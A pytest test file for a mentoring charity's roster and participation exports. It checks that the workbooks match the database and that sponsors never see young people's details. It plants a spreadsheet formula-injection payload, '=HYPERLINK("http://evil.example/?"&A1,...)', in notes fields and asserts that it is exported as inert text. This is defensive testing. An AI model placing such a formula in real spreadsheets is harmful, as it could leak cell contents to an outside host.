"""Rosters and the participation workbook, on SQLite and PostgreSQL.

Every workbook is read back with python-calamine and compared with the database
through plain SQL (or plain Python over the fixture's rows), and checked for
formulas. The privacy rules are tested by scanning every cell of what a sponsor
gets for every youth name and detail in the database.
"""

from __future__ import annotations

import re
from datetime import date

import pytest
from sqlalchemy import text

from mentordesk.domain.enums import (ClosureCategory, EventKind, ProgrammeType, SessionStatus,
                                     VolunteerStatus)
from mentordesk.domain.errors import ValidationError
from mentordesk.domain.values import name_key
from mentordesk.services.exports import RosterFilters
from mentordesk.services.participation import Period
from mentordesk.services.sessions import SessionEntry
from tests.exporting.readback import assert_no_formula, every_cell, records, sheet_names

AS_OF = date(2026, 3, 1)
H1 = dict(start=date(2025, 1, 1), end=date(2025, 12, 31))
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


class World:
    def __init__(self, services, make):
        self.services = services
        sp, vol = services.sponsors, services.volunteers
        self.acme = sp.create(name="Acme")
        self.north = sp.add_branch(self.acme.id, name="North", city="Leeds", headcount=40)
        self.south = sp.add_branch(self.acme.id, name="South", headcount=8)
        self.beta = sp.create(name="Beta")
        self.main = sp.add_branch(self.beta.id, name="Main", headcount=10)
        self.riverside = services.programmes.create(name="Riverside", type=ProgrammeType.COMMUNITY)
        self.hilltop = services.programmes.create(name="Hilltop", type=ProgrammeType.SCHOOL)

        def volunteer(first, last, consent, sponsor=None, branch=None, since=date(2024, 1, 1),
                      **kw):
            kw.setdefault("status", VolunteerStatus.ACCEPTED)
            v = make.volunteer(first_name=first, last_name=last, consent_named_in_reports=consent,
                               email=re.sub(r"\W", "", name_key(first)) + "@example.org",
                               eligible=False, prior_training_minutes=600, **kw)
            make.clear_checks(v.id, completed_on=date(2024, 6, 1))
            if sponsor is not None:
                vol.set_employer(v.id, sponsor.id, branch.id if branch else None, since)
            return v

        self.ana = volunteer("Ana", "Álvarez", True, self.acme, self.north,
                             notes=HOSTILE_NOTE, phone="+44 113 496 0000")
        self.ben = volunteer("Ben", "Brook", False, self.beta, self.main)
        self.cara = volunteer("@Cara", "Cole", False, self.acme, self.north)
        self.evi = volunteer("Evi", "Ek", True, self.acme, self.south)
        self.dan = volunteer("Dan", "Drew", True, status=VolunteerStatus.APPLIED)
        self.gone = volunteer("Gus", "Gone", True, self.acme, self.north)
        services.volunteers.archive(self.gone.id)

        def youth(first, last, ref, programme, **kw):
            return make.youth(first_name=first, last_name=last, programme_ref=ref,
                              programme_id=programme.id, school=f"{last} Academy",
                              guardian_name=f"Guardian {last}", **kw)

        self.zeph = youth("Zephyrine", "Quillfeather", "RQ-71", self.riverside,
                          date_of_birth=date(2012, 4, 5))
        self.octa = youth("Octavio", "Brambleworth", "HB-22", self.hilltop,
                          date_of_birth=date(2011, 9, 9))
        self.mari = youth("Marisol", "Thistledown", "RT-05", self.riverside,
                          date_of_birth=date(2013, 1, 2))
        m = services.matches
        self.m1 = m.propose(self.ana.id, self.zeph.id, self.riverside.id,
                            proposed_on=date(2024, 12, 1), plan="Reading with Zephyrine")
        m.activate(self.m1.id, date(2025, 1, 1))
        self.m2 = m.propose(self.ben.id, self.octa.id, self.hilltop.id,
                            proposed_on=date(2025, 1, 5))
        m.activate(self.m2.id, date(2025, 2, 1))
        self.m3 = m.propose(self.cara.id, self.mari.id, self.riverside.id,
                            proposed_on=date(2026, 2, 1))
        self.m4 = m.propose(self.gone.id, self.mari.id, self.riverside.id,
                            proposed_on=date(2025, 2, 1))
        m.activate(self.m4.id, date(2025, 2, 15))
        log = services.sessions.log_many
        log([SessionEntry(self.m1.id, date(2025, 1, 2), 50,
                          notes="Met Zephyrine Quillfeather at the library"),
             SessionEntry(self.m1.id, date(2025, 8, 31), 90, notes=HOSTILE_NOTE),
             SessionEntry(self.m1.id, date(2025, 9, 1), 45),
             SessionEntry(self.m1.id, date(2025, 9, 2), 60, status=SessionStatus.CANCELLED),
             SessionEntry(self.m1.id, date(2026, 1, 10), 30),
             SessionEntry(self.m2.id, date(2025, 3, 3), 75),
             SessionEntry(self.m4.id, date(2025, 3, 4), 20)])
        # Ana moves from North to South on 2025-09-01.
        vol.set_employer(self.ana.id, self.acme.id, self.south.id, date(2025, 9, 1))
        event = services.events.create(kind=EventKind.ONGOING_TRAINING, title="Training",
                                       event_date=date(2025, 5, 5), duration_minutes=60)
        services.events.set_attendance(event.id, [self.evi.id])
        m.close(self.m2.id, end_date=date(2025, 10, 1), reason_id=make.reason_id(),
                category=ClosureCategory.COMPLETED, rematch_eligible=False, note="=1+1")


@pytest.fixture
def world(services, make):
    return World(services, make)


def export(services, tmp_path, kind, name=None, **kw):
    path = tmp_path / "out" / (name or f"{kind}.xlsx")
    path.parent.mkdir(exist_ok=True)
    kw.setdefault("filters", RosterFilters(as_of=AS_OF))
    result = services.exports.roster(kind, path, **kw)
    assert result.path == path
    if path.suffix == ".xlsx":
        assert_no_formula(path)
    return result


def _typed(value):
    """SQLite hands dates to plain SQL as ISO text; PostgreSQL as dates."""
    if isinstance(value, str) and re.fullmatch(r"\d{4}-\d\d-\d\d", value):
        return date.fromisoformat(value)
    return value


def sql(services, statement: str, **params) -> list[tuple]:
    with services.db.reading() as s:
        return [tuple(_typed(v) for v in r) for r in s.execute(text(statement), params)]


def youth_details(services) -> list[str]:
    """Everything that names or describes a young person."""
    rows = sql(services, "SELECT first_name, last_name, programme_ref, school, guardian_name, "
                         "date_of_birth FROM youth")
    return [str(v) for row in rows for v in row if v]


def test_volunteer_roster_is_the_database(services, world, tmp_path):
    result = export(services, tmp_path, "volunteers")
    got = records(result.path, "Volunteers")
    rows = sql(services, "SELECT id, first_name, last_name, email, phone, status, notes "
                         "FROM volunteer WHERE archived_at IS NULL")
    rows.sort(key=lambda r: (name_key(r[2]), name_key(r[1]), r[0]))
    assert [(r["MentorDesk ID"], r["First name"], r["Last name"], r["Email"], r["Phone"] or None,
             r["Status"].lower(), r["Notes"]) for r in got] == rows
    assert result.rows == {"Volunteers": len(rows)}
    ana = next(r for r in got if r["MentorDesk ID"] == world.ana.id)
    assert (ana["Company"], ana["Branch"]) == ("Acme", "South")  # employer on AS_OF
    assert ana["Notes"] == HOSTILE_NOTE  # text, not a formula
    assert list(got[0])[0] == "MentorDesk ID"


def test_session_log_for_a_period(services, world, tmp_path):
    f = RosterFilters(start=date(2025, 1, 2), end=date(2025, 9, 1), as_of=AS_OF)
    result = export(services, tmp_path, "sessions", filters=f)
    got = records(result.path, "Sessions")
    rows = sql(services, "SELECT s.id, s.session_date, v.email, y.programme_ref, "
                         "s.duration_minutes, s.status, s.notes "
                         "FROM session s JOIN volunteer v ON v.id = s.volunteer_id "
                         "JOIN \"match\" m ON m.id = s.match_id JOIN youth y ON y.id = m.youth_id "
                         "WHERE s.session_date BETWEEN :a AND :b ORDER BY s.session_date, s.id",
               a=f.start, b=f.end)
    assert [(r["MentorDesk ID"], r["Date"], r["Volunteer email"], r["Youth programme ID"],
             r["Minutes"], r["Status"].lower().replace(" ", "_"), r["Notes"]) for r in got] == rows
    assert all(r["Hours"] == pytest.approx(r["Minutes"] / 60, rel=1e-15) for r in got)
    assert result.rows == {"Sessions": 5}


def sponsor_sessions(services, sponsor_id, start, end) -> list[int]:
    """Plain Python: sessions on a day their volunteer was employed by the sponsor."""
    jobs = sql(services, "SELECT volunteer_id, sponsor_id, start_date, end_date FROM employment")
    sessions = sql(services, "SELECT id, volunteer_id, session_date FROM session "
                             "ORDER BY session_date, id")
    return [sid for sid, vid, day in sessions if start <= day <= end and any(
        v == vid and sp == sponsor_id and (a is None or a <= day) and (b is None or day <= b)
        for v, sp, a, b in jobs)]


def test_what_a_sponsor_gets_never_names_a_young_person(services, world, tmp_path):
    f = RosterFilters(sponsor_id=world.acme.id, as_of=AS_OF, **H1)
    result = export(services, tmp_path, "all", filters=f)
    assert sheet_names(result.path) == ["Volunteers", "Matches", "Sessions"]
    assert result.notes and "youth" in result.notes[0]
    cells = every_cell(result.path)
    for detail in youth_details(services):
        assert not any(detail in cell for cell in cells), detail
    # No notes and no plans: they may name a young person.
    assert not any("Zephyrine" in cell or HOSTILE_NOTE in cell for cell in cells)
    sessions = records(result.path, "Sessions")
    assert [r["MentorDesk ID"] for r in sessions] == sponsor_sessions(services, world.acme.id,
                                                                      H1["start"], H1["end"])
    assert "Youth programme ID" not in sessions[0] and sessions[0]["Match ID"] == world.m1.id
    volunteers = records(result.path, "Volunteers")
    # Exactly the people the participation figures count for Acme in the period.
    figures = services.participation.sponsor_figures(Period(**H1), include_archived=True)
    acme = next(sp for sp in figures if sp.sponsor_id == world.acme.id)
    assert len(volunteers) == acme.volunteers == 3  # Ana, Evi (event only), Gus (archived since)
    assert {r["MentorDesk ID"] for r in volunteers} == {world.ana.id, world.evi.id, world.gone.id}
    assert "Date of birth" not in volunteers[0] and "Notes" not in volunteers[0]


def test_volunteers_who_did_not_consent_are_not_named_to_a_sponsor(services, world, tmp_path):
    f = RosterFilters(sponsor_id=world.acme.id, as_of=AS_OF)
    got = records(export(services, tmp_path, "volunteers", filters=f).path, "Volunteers")
    by_id = {r["MentorDesk ID"]: r for r in got}
    assert set(by_id) == {world.ana.id, world.cara.id, world.evi.id}  # employed at Acme on AS_OF
    cara = by_id[world.cara.id]
    assert (cara["First name"], cara["Last name"], cara["Email"]) == ("(not named)", "", "")
    assert by_id[world.ana.id]["First name"] == "Ana"
    assert not any("Cara" in cell for cell in every_cell(tmp_path / "out" / "volunteers.xlsx"))


def test_a_branch_filter_follows_the_employment_on_each_day(services, world, tmp_path):
    f = RosterFilters(branch_id=world.north.id, as_of=AS_OF, **H1)
    got = records(export(services, tmp_path, "sessions", filters=f).path, "Sessions")
    ana_days = [r["Date"] for r in got if r["Volunteer email"] == "ana@example.org"]
    assert ana_days == [date(2025, 1, 2), date(2025, 8, 31)]  # moved to South on 2025-09-01
    with pytest.raises(ValidationError, match="not a branch of Beta"):
        services.exports.roster("sessions", tmp_path / "x.xlsx", filters=RosterFilters(
            sponsor_id=world.beta.id, branch_id=world.north.id))


def test_youth_roster_full_and_limited(services, world, tmp_path):
    full = records(export(services, tmp_path, "youth", "full.xlsx").path, "Youth")
    rows = sql(services, "SELECT id, programme_ref, first_name, last_name, date_of_birth, school, "
                         "guardian_name FROM youth WHERE archived_at IS NULL")
    rows.sort(key=lambda r: (name_key(r[3]), name_key(r[2]), r[0]))
    assert [(r["MentorDesk ID"], r["Programme ID"], r["First name"], r["Last name"],
             r["Date of birth"], r["School"], r["Guardian name"]) for r in full] == rows
    limited = export(services, tmp_path, "youth", "limited.xlsx", privacy="limited")
    got = records(limited.path, "Youth")
    assert [(r["First name"], r["Last initial"]) for r in got] == [
        (r[2], r[3][0] + ".") for r in rows]
    cells = every_cell(limited.path)
    for _, _, _, last, born, school, guardian in rows:
        assert not any(last in c or str(born) in c or school in c or guardian in c for c in cells)


def test_a_youth_roster_is_never_made_for_a_sponsor(services, world, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(ValidationError, match="sponsors never receive youth"):
        services.exports.roster("youth", out / "y.xlsx",
                                filters=RosterFilters(sponsor_id=world.acme.id))
    assert list(out.iterdir()) == []


def test_match_roster_filters(services, world, tmp_path):
    f = RosterFilters(programme_id=world.riverside.id, status="active", as_of=AS_OF)
    got = records(export(services, tmp_path, "matches", filters=f).path, "Matches")
    expected = sql(services, "SELECT id FROM \"match\" WHERE programme_id = :p "
                             "AND status = 'active' AND archived_at IS NULL ORDER BY id",
                   p=world.riverside.id)
    assert sorted((r["MentorDesk ID"],) for r in got) == expected
    assert (got[0]["Youth"], got[0]["Plan"]) == ("Zephyrine Quillfeather", "Reading with Zephyrine")
    ran = RosterFilters(start=date(2025, 11, 1), end=date(2025, 12, 31), as_of=AS_OF)
    result = export(services, tmp_path, "matches", "ran.xlsx", filters=ran, privacy="limited")
    got = records(result.path, "Matches")
    # m2 closed on 2025-10-01, m3 was proposed in 2026; m4's volunteer is archived, not the match
    assert {r["MentorDesk ID"] for r in got} == {world.m1.id, world.m4.id}
    assert {r["Youth"] for r in got} == {"Zephyrine Q.", "Marisol T."}
    with pytest.raises(ValidationError, match="not a match status"):
        services.exports.roster("matches", tmp_path / "m.xlsx",
                                filters=RosterFilters(status="done"))


def test_all_rosters_in_one_workbook(services, world, tmp_path):
    result = export(services, tmp_path, "all")
    assert sheet_names(result.path) == ["Volunteers", "Youth", "Matches", "Sessions"]
    counts = sql(services, "SELECT (SELECT count(*) FROM volunteer WHERE archived_at IS NULL), "
                           "(SELECT count(*) FROM youth WHERE archived_at IS NULL), "
                           "(SELECT count(*) FROM \"match\" WHERE archived_at IS NULL), "
                           "(SELECT count(*) FROM session)")[0]
    assert tuple(result.rows.values()) == counts
    assert all(records(result.path, name)[0] and list(records(result.path, name)[0])[0]
               == "MentorDesk ID" for name in result.rows)


def test_csv_roster(services, world, tmp_path):
    result = export(services, tmp_path, "sessions", "log.csv", fmt="csv")
    raw = result.path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert ("'" + HOSTILE_NOTE.replace('"', '""')).encode() in raw
    assert raw.count(b"\r\n") == 1 + result.rows["Sessions"]
    with pytest.raises(ValidationError, match="A CSV file holds one roster"):
        services.exports.roster("all", tmp_path / "all.csv", fmt="csv")
